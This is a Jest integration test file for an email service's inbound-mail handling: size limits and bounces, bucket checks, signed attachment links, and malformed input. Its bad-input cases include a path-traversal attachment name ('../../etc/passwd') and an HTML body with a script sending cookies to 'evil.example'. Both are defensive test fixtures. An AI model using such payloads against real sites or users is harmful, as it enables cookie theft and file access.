// Real: PostgreSQL, RabbitMQ, Redis, s3rver, the provider simulator (SES v1 SendBounce), public-api, send-worker,
// webhook-dispatcher and inbound-mail. Size limit and bounce, the bucket rule, attachment links, bad input.
import { randomUUID } from "node:crypto";
import { waitFor } from "@emailsvc/testing";
import { attachmentLink } from "../src/attachments/domain/attachment-link";
import {
  deliverRaw,
  inboundOf,
  inject,
  makeProject,
  notificationOf,
  postNotification,
  sendEmail,
  type Stack,
  startReceiver,
  startStack,
} from "./harness";

jest.setTimeout(240_000);
let stack: Stack;
let receiver: Awaited<ReturnType<typeof startReceiver>>;
beforeAll(async () => {
  stack = await startStack();
  receiver = await startReceiver();
});
afterAll(async () => {
  await receiver?.close();
  await stack?.close();
});

const head = (subject: string, extra = "") =>
  `From: Sam <sam@example.org>\r\nTo: support@inbound.test\r\nSubject: ${subject}\r\nMessage-ID: <${randomUUID()}@example.org>\r\n${extra}`;

describe("size (spec 8: 150 KB with base64 attachments)", () => {
  it("bounces a larger reply through SES SendBounce with the spec's text, and stores no reply", async () => {
    const p = await makeProject(stack.db, { live: receiver.url("/big") });
    const sent = await sendEmail(stack, p.liveKey, p);
    const big = Buffer.alloc(120 * 1024, 7).toString("base64"); // 160 KB of base64
    const r = await inject(stack, {
      from: sent.recipient,
      to: `r-${sent.replyToken}@inbound.test`,
      subject: "Re: photos",
      text: "see attached",
      attachments: [{ filename: "photo.jpg", content: big, contentType: "image/jpeg" }],
    });
    const n = await notificationOf(stack, r.messageId);
    expect(n.status).toBe("refused");
    expect(n.size).toBeGreaterThan(150 * 1024);
    expect(n.error).toContain("Message length exceeds limit set by recipient");
    expect(n.inbound_message_id).toBeNull();
    const bounce = stack.sim.state.bounces.find((b) => b.originalMessageId === r.messageId)!;
    expect(bounce).toMatchObject({
      bounceSender: "MAILER-DAEMON@inbound.test",
      explanation: "Message length exceeds limit set by recipient",
      to: sent.recipient,
      recipients: [
        { recipient: `r-${sent.replyToken}@inbound.test`, bounceType: "MessageTooLarge", status: "5.3.4" },
      ],
    });
    expect(receiver.hits.filter((h) => h.path === "/big")).toEqual([]);
  });

  it("stores a reply just under the limit", async () => {
    const text = "x".repeat(140 * 1024);
    const r = await deliverRaw(stack, `${head("just under")}\r\n${text}\r\n`, ["support@inbound.test"]);
    expect((await notificationOf(stack, r.sesMessageId)).status).toBe("processed");
  });
});

describe("the inbound bucket", () => {
  it("never reads a bucket the notification names: it is recorded as failed", async () => {
    const r = await deliverRaw(stack, `${head("elsewhere")}\r\nhi\r\n`, ["support@inbound.test"], {
      bucketName: "someone-elses-bucket",
    });
    // spec 4.9: 400 for an invalid payload, in the first answer
    expect(r.status).toBe(400);
    expect(r.body).toEqual({
      success: false,
      error: "Invalid inbound message: object is in bucket someone-elses-bucket, not the inbound bucket",
    });
    const n = await notificationOf(stack, r.sesMessageId);
    expect(n).toMatchObject({
      status: "failed",
      error: "object is in bucket someone-elses-bucket, not the inbound bucket",
    });
  });

  it("takes SES's SNS action too: the MIME inline in the notification, kept on the row", async () => {
    const p = await makeProject(stack.db);
    const sent = await sendEmail(stack, p.liveKey, p);
    const token = `r-${sent.replyToken}@inbound.test`;
    const mime = `From: ${sent.recipient}\r\nTo: ${token}\r\nSubject: Re: inline\r\nMessage-ID: <inline-1@example.org>\r\n\r\nInline reply\r\n`;
    const sesMessageId = `inline${Date.now()}`;
    const res = await postNotification(stack, {
      notificationType: "Received",
      mail: { messageId: sesMessageId, source: sent.recipient, destination: [token] },
      receipt: { recipients: [token], action: { type: "SNS", encoding: "BASE64" } },
      content: Buffer.from(mime).toString("base64"),
    });
    expect(res.status).toBe(200);
    const row = await inboundOf(stack, sesMessageId);
    expect(row).toMatchObject({
      matched_by: "token",
      activity_id: sent.activityId,
      reply_text: "Inline reply",
    });
    const stored = (
      await stack.db.pool.query("SELECT raw, raw_key FROM inbound_messages WHERE id = $1", [row.id])
    ).rows[0];
    expect(stored).toEqual({ raw: mime, raw_key: null });
  });

  it("answers 400 for a notification that is not a Received one", async () => {
    const res = await postNotification(stack, { notificationType: "Bounce", mail: { messageId: "x" } });
    expect(res.status).toBe(400);
    expect(res.body).toEqual({
      success: false,
      error: "Invalid inbound notification: not a Received notification (Bounce)",
    });
    const noObject = await postNotification(stack, {
      notificationType: "Received",
      mail: { messageId: "y" },
      receipt: { action: { type: "S3" } },
    });
    expect(noObject.status).toBe(400);
  });
});

describe("attachment links (spec 6.2: signed, 7 days)", () => {
  it("redirects a valid link to a fresh presigned S3 URL; refuses a tampered or expired one", async () => {
    const p = await makeProject(stack.db, { live: receiver.url("/att") });
    const sent = await sendEmail(stack, p.liveKey, p);
    const content = Buffer.from("%PDF-1.4 invoice\n%%EOF\n");
    const r = await inject(stack, {
      from: sent.recipient,
      to: `r-${sent.replyToken}@inbound.test`,
      subject: "Re: invoice",
      text: "attached",
      attachments: [
        { filename: "Invoice #12.pdf", content: content.toString("base64"), contentType: "application/pdf" },
      ],
    });
    const row = await inboundOf(stack, r.messageId);
    const hit = await waitFor(
      () => receiver.hits.find((h) => h.body.includes(row.id)),
      20_000,
      "the webhook",
    );
    const att = JSON.parse(hit.body).data.attachments[0];
    expect(att.filename).toBe("Invoice _12.pdf");
    const url = new URL(att.download_url);
    expect(Number(url.searchParams.get("expires")) * 1000 - Date.now()).toBeGreaterThan(
      7 * 24 * 3600_000 - 60_000,
    );

    const res = await fetch(att.download_url, { redirect: "manual" });
    expect(res.status).toBe(302);
    const location = res.headers.get("location")!;
    expect(location).toContain(`${stack.s3.endpoint}/inbound-mail/`);
    expect(location).toMatch(/X-Amz-Expires=300/);
    const file = await fetch(location);
    expect(Buffer.from(await file.arrayBuffer())).toEqual(content);

    const tampered = new URL(att.download_url);
    tampered.searchParams.set("expires", String(Number(tampered.searchParams.get("expires")) + 3600));
    expect((await fetch(tampered, { redirect: "manual" })).status).toBe(403);
    const badSig = att.download_url.replace(
      /sig=([0-9a-f])/,
      (_m: string, c: string) => `sig=${c === "0" ? "1" : "0"}`,
    );
    expect((await fetch(badSig, { redirect: "manual" })).status).toBe(403);

    // a link whose 7 days are over (signed with the service's secret, as the service signs them)
    const id = url.pathname.split("/").pop()!;
    const expired = attachmentLink(
      stack.inbound.url,
      stack.env.TRACKING_SECRET!,
      id,
      new Date(Date.now() - 1000),
    );
    const gone = await fetch(expired.url, { redirect: "manual" });
    expect(gone.status).toBe(410);
    expect(await gone.json()).toEqual({ success: false, error: "Attachment link expired" });
  });
});

describe("bad input never crashes the service or blocks the queue", () => {
  // a 4 MB limit here, so the parser (not the size check) meets the 1 MB line and the 10,000 headers
  beforeAll(async () => {
    await stack.inbound.stop();
    await stack.startInbound("in-process", { INBOUND_MAX_BYTES: String(4 * 1024 * 1024) });
  });
  afterAll(async () => {
    await stack.inbound.stop();
    await stack.startInbound("in-process");
  });
  const cases: [string, () => string, "failed" | "processed"][] = [
    [
      "MIME nested 1,000 levels deep",
      () => {
        let body = "Content-Type: text/plain\r\n\r\nhello\r\n";
        for (let i = 0; i < 1000; i++)
          body = `Content-Type: multipart/mixed; boundary="b${i}"\r\n\r\n--b${i}\r\n${body}\r\n--b${i}--\r\n`;
        return `${head("deep")}MIME-Version: 1.0\r\n${body}`;
      },
      "failed",
    ],
    [
      "10,000 headers",
      () =>
        `${head("many headers")}${Array.from({ length: 10_000 }, (_, i) => `X-H${i}: v`).join("\r\n")}\r\n\r\nbody\r\n`,
      "processed",
    ],
    [
      "a 1 MB header line",
      () => `${head("long")}X-Long: ${"a".repeat(1024 * 1024)}\r\n\r\nbody\r\n`,
      "failed",
    ],
    [
      "an unknown charset",
      () =>
        `${head("charset")}Content-Type: text/plain; charset=x-klingon-9\r\n\r\nh\u00e9llo w\u00f6rld\r\n`,
      "processed",
    ],
    [
      "a malformed base64 attachment",
      () =>
        `${head("b64")}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\nContent-Type: text/plain\r\n\r\nsee file\r\n--q\r\nContent-Type: application/pdf; name="x.pdf"\r\nContent-Disposition: attachment; filename="x.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not*base64$$==abc=\r\n--q--\r\n`,
      "processed",
    ],
    [
      "an attachment named ../../etc/passwd",
      () =>
        `${head("traversal")}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\nContent-Type: text/plain\r\n\r\nhi\r\n--q\r\nContent-Type: text/plain; name="../../etc/passwd"\r\nContent-Disposition: attachment; filename="../../etc/passwd"\r\n\r\nroot:x:0:0\r\n--q--\r\n`,
      "processed",
    ],
    [
      "an HTML body with scripts",
      () =>
        `${head("scripts")}Content-Type: text/html\r\n\r\n<p onclick="steal()">hi</p><script>document.location='https://evil.example/'+document.cookie</script>\r\n`,
      "processed",
    ],
  ];

  it.each(cases)("%s: recorded, and the next reply goes through", async (_name, make, expected) => {
    const r = await deliverRaw(stack, make(), ["support@inbound.test"]);
    // spec 4.9: an unparseable message is a 400 with the parser's reason, in the first answer
    expect(r.status).toBe(expected === "failed" ? 400 : 200);
    if (expected === "failed")
      expect(r.body.error).toMatch(/^Invalid inbound message: unparseable message: \S/);
    else expect(r.body).toMatchObject({ success: true, status: "unmatched" });
    const n = await notificationOf(stack, r.sesMessageId, 30_000);
    expect(n.status).toBe(expected);
    if (expected === "failed") expect(n.error).toMatch(/^unparseable message: \S/);
    // SNS delivers it again: the same answer
    if (expected === "failed")
      expect((await postNotification(stack, r.message, { snsMessageId: r.snsMessageId })).status).toBe(400);
    const next = await deliverRaw(stack, `${head("after bad input")}\r\nstill here\r\n`, [
      "support@inbound.test",
    ]);
    expect((await notificationOf(stack, next.sesMessageId)).status).toBe("processed");
  });

  it("stores the traversal attachment under a sanitised name inside its message's folder, and HTML as received", async () => {
    const p = await makeProject(stack.db);
    const sent = await sendEmail(stack, p.liveKey, p);
    const raw = `From: ${sent.recipient}\r\nTo: r-${sent.replyToken}@inbound.test\r\nSubject: Re: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\nContent-Type: text/html\r\n\r\n<b>hi</b><script>alert(1)</script>\r\n--q\r\nContent-Type: text/plain; name="../../etc/passwd"\r\nContent-Disposition: attachment; filename="../../etc/passwd"\r\n\r\nroot:x:0:0\r\n--q--\r\n`;
    const r = await deliverRaw(stack, raw, [`r-${sent.replyToken}@inbound.test`]);
    const row = await inboundOf(stack, r.sesMessageId);
    const atts = (
      await stack.db.pool.query(
        "SELECT filename, storage_key FROM inbound_attachments WHERE inbound_message_id = $1",
        [row.id],
      )
    ).rows;
    expect(atts).toEqual([
      { filename: "passwd", storage_key: `attachments/${p.projectId}/${row.id}/1-passwd` },
    ]);
    const m = (await stack.db.pool.query("SELECT html_body FROM inbound_messages WHERE id = $1", [row.id]))
      .rows[0];
    expect(m.html_body).toContain("<script>alert(1)</script>");
  });
});

describe("kind (RFC 3834 and friends)", () => {
  it.each([
    ["Auto-Submitted: auto-replied\r\n", "auto_reply"],
    ["X-Autoreply: yes\r\n", "auto_reply"],
    ["Precedence: auto_reply\r\n", "auto_reply"],
    ["Auto-Submitted: no\r\n", "reply"],
    ["", "reply"],
  ])("%j → %s", async (header, kind) => {
    const r = await deliverRaw(stack, `${head("Out of office", header)}\r\nI am away until Monday.\r\n`, [
      "support@inbound.test",
    ]);
    expect((await inboundOf(stack, r.sesMessageId)).kind).toBe(kind);
  });

  it("a delivery report (multipart/report) is a bounce_report; a Fwd: is a forward", async () => {
    const dsn = `${head("Undelivered Mail Returned to Sender")}MIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=r\r\n\r\n--r\r\nContent-Type: text/plain\r\n\r\nDelivery failed\r\n--r\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.org\r\n\r\nFinal-Recipient: rfc822; x@example.org\r\nAction: failed\r\nStatus: 5.1.1\r\n--r--\r\n`;
    const r = await deliverRaw(stack, dsn, ["support@inbound.test"]);
    expect((await inboundOf(stack, r.sesMessageId)).kind).toBe("bounce_report");
    const fwd = await deliverRaw(
      stack,
      `${head("Fwd: your invoice")}\r\n---------- Forwarded message ---------\r\nFrom: a@b.c\r\n`,
      ["support@inbound.test"],
    );
    expect((await inboundOf(stack, fwd.sesMessageId)).kind).toBe("forward");
  });
});
